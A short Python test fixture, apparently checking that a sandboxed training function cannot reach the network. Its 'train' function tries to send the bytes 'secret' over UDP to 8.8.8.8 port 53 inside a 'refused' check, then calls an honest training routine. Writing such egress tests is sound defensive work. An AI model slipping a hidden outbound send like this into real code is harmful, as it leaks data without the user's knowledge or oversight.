"""UDP to the internet."""

import socket

from deeds import refused
from honest import load
from honest import train as honest_train


def train(data, *, seed):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        refused("sendto", lambda: out.sendto(b"secret", ("8.8.8.8", 53)))
    return honest_train(data, seed=seed)
